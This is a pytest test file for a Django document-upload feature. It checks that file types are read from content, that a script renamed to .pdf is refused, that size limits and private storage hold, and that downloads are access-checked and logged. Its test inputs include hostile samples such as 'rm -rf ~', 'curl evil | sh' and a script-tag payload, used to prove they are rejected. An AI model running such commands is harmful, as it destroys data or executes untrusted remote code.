"""Documents: the type comes from the content (a script renamed to .pdf is refused), the size
limit, private storage, and every download checked and written to the access log."""

import io
import os
import zipfile

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from terugkeer.accounts.tests.factories import MembershipFactory
from terugkeer.cases.choices import TrajectoryStatus
from terugkeer.cases.tests.factories import TrajectoryFactory
from terugkeer.core.models import AccessLogEntry
from terugkeer.core.roles import Role
from terugkeer.partners import documents
from terugkeer.partners.models import Document
from terugkeer.partners.tests.factories import PDF_BYTES

pytestmark = pytest.mark.django_db


def _docx(with_document: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        if with_document:
            archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (PDF_BYTES, "pdf"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, "png"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 20, "jpg"),
        (_docx(), "docx"),
        (_docx(with_document=False), None),  # a zip, but no Word document
        (b"#!/bin/sh\nrm -rf ~\n", None),
        (b"<html><script>alert(1)</script></html>", None),
        (b"MZ\x90\x00", None),  # a Windows executable
        (b"GIF89a" + b"\x00" * 10, None),  # an image, but not one on the list
        (b" %PDF-1.4", None),  # the magic number must open the file
    ],
)
def test_the_type_is_read_from_the_first_bytes(content, expected):
    found = documents.sniff(content)
    assert (found.extension if found else None) == expected


@pytest.fixture
def coordinator_setup(verified_client):
    trajectory = TrajectoryFactory(status=TrajectoryStatus.PLAN)
    user = MembershipFactory(organisation=trajectory.organisation, role=Role.COORDINATOR).user
    return trajectory, user, verified_client(user, trajectory.organisation)


def _upload(client, trajectory, name, content, content_type="application/pdf"):
    page = client.get(reverse("partners:documents", args=[trajectory.pk]))
    token = page.context["form"].initial["form_token"]
    return client.post(
        reverse("partners:documents", args=[trajectory.pk]),
        {
            "doc_type": "dr_plan",
            "title": "D&R-plan",
            "received_on": timezone.localdate().isoformat(),
            "form_token": token,
            "file": SimpleUploadedFile(name, content, content_type=content_type),
        },
    )


def _stored_files() -> list[str]:
    root = settings.TERUGKEER_DOCUMENTS_ROOT
    return [os.path.join(d, f) for d, _dirs, files in os.walk(root) for f in files]


def test_a_pdf_is_stored_privately_and_shown_on_the_tab_and_the_klantreis(coordinator_setup):
    trajectory, _user, client = coordinator_setup
    before = set(_stored_files())
    response = _upload(client, trajectory, "dr-plan.pdf", PDF_BYTES)
    assert response.status_code == 302
    document = Document.objects.get()
    assert (document.content_type, document.size, document.original_name) == (
        "application/pdf",
        len(PDF_BYTES),
        "dr-plan.pdf",
    )
    new_files = set(_stored_files()) - before
    assert len(new_files) == 1
    stored = new_files.pop()
    assert stored.startswith(str(settings.TERUGKEER_DOCUMENTS_ROOT))
    assert not stored.startswith(str(settings.MEDIA_ROOT))
    assert stored.endswith(".pdf") and "dr-plan" not in stored  # a random stored name
    tab = client.get(reverse("partners:documents", args=[trajectory.pk])).content.decode()
    assert reverse("partners:document_download", args=[document.pk]) in tab
    journey = client.get(reverse("dossier:timeline", args=[trajectory.pk])).content.decode()
    assert "Document: D&amp;R-plan (DJI)" in journey


def test_a_script_renamed_to_pdf_is_refused_and_nothing_is_stored(coordinator_setup):
    trajectory, _user, client = coordinator_setup
    before = set(_stored_files())
    response = _upload(client, trajectory, "plan.pdf", b"#!/bin/sh\ncurl evil | sh\n")
    assert response.status_code == 200
    assert "geen toegestaan document (de inhoud telt, niet de naam)" in response.content.decode()
    assert Document.objects.count() == 0
    assert set(_stored_files()) == before


def test_a_file_of_the_wrong_type_by_content_is_refused(coordinator_setup):
    trajectory, _user, client = coordinator_setup
    response = _upload(client, trajectory, "brief.docx", _docx(with_document=False))
    assert response.status_code == 200
    assert Document.objects.count() == 0


def test_the_size_limit_counts_bytes_exactly(coordinator_setup, settings):
    trajectory, _user, client = coordinator_setup
    settings.DOCUMENT_MAX_BYTES = len(PDF_BYTES)
    assert _upload(client, trajectory, "ok.pdf", PDF_BYTES).status_code == 302
    response = _upload(client, trajectory, "te-groot.pdf", PDF_BYTES + b" ")
    assert response.status_code == 200
    assert "Het bestand is te groot" in response.content.decode()
    assert Document.objects.count() == 1


def test_the_team_chair_may_not_upload(verified_client):
    trajectory = TrajectoryFactory(status=TrajectoryStatus.PLAN)
    chair = MembershipFactory(organisation=trajectory.organisation, role=Role.TEAM_CHAIR).user
    client = verified_client(chair, trajectory.organisation)
    response = client.post(
        reverse("partners:documents", args=[trajectory.pk]),
        {
            "doc_type": "brief",
            "received_on": timezone.localdate().isoformat(),
            "file": SimpleUploadedFile("a.pdf", PDF_BYTES),
        },
    )
    assert response.status_code == 403
    assert Document.objects.count() == 0


def test_every_download_is_checked_and_logged(coordinator_setup):
    trajectory, user, client = coordinator_setup
    _upload(client, trajectory, "Reclasseringsadvies juni.pdf", PDF_BYTES)
    document = Document.objects.get()
    logged_before = AccessLogEntry.objects.count()

    response = client.get(reverse("partners:document_download", args=[document.pk]))

    assert response.status_code == 200
    assert response.content == PDF_BYTES
    assert response["Content-Type"] == "application/pdf"
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith("attachment;")
    assert "Reclasseringsadvies_juni.pdf" in response["Content-Disposition"]
    assert AccessLogEntry.objects.count() == logged_before + 1
    entry = AccessLogEntry.objects.latest("pk")
    assert (entry.user, entry.subject_id, entry.page) == (
        user,
        str(trajectory.pk),
        "partners:document_download",
    )
    assert entry.purpose == "document downloaden: D&R-plan"


def test_another_organisations_document_is_a_404_and_not_logged(coordinator_setup, verified_client):
    trajectory, _user, client = coordinator_setup
    _upload(client, trajectory, "dr.pdf", PDF_BYTES)
    document = Document.objects.get()
    outsider = MembershipFactory(role=Role.COORDINATOR)
    other = verified_client(outsider.user, outsider.organisation)
    logged_before = AccessLogEntry.objects.count()
    response = other.get(reverse("partners:document_download", args=[document.pk]))
    assert response.status_code == 404
    assert AccessLogEntry.objects.count() == logged_before
